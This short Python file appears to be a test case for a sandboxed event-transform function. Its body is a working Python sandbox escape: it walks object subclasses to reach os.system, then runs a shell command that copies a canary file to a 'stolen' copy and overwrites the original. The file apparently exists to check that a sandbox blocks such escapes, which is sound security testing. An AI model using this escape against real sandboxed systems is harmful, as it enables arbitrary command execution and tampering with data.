# expect: "tried":[1-9]
def transformEvent(event, metadata):
    told = event["canary"]
    tried = 0
    for found in ().__class__.__base__.__subclasses__():
        try:
            names = found.__init__.__globals__
            run = names.get("system") or names["__builtins__"]["__import__"]("os").system
            run(f"cp {told['file']} {told['directory']}/stolen; echo changed > {told['file']}")
            tried += 1
        except Exception:
            pass
    return {"tried": tried}
